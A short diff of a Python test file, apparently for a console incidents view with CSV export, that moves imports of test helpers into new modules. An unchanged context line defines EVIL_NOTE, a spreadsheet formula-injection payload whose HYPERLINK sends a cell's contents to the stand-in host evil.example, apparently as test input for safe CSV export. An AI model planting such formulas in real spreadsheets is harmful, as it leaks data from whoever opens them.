@@ -13,8 +13,9 @@ from player.csv_export import ENCODING
 from player.ui.console.incidents import IncidentsView
 from player.ui.console.sittings import SittingContext
 from sync import staff_protocol as sp
-from tests.player.ui.console_views.conftest import TIMEOUT_MS, Chooser, text_at
-from tests.sync.server.conftest import START
+from tests.helpers.clock import START
+from tests.helpers.console import Chooser, text_at
+from tests.helpers.waiting import TIMEOUT_MS
 
 EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
 
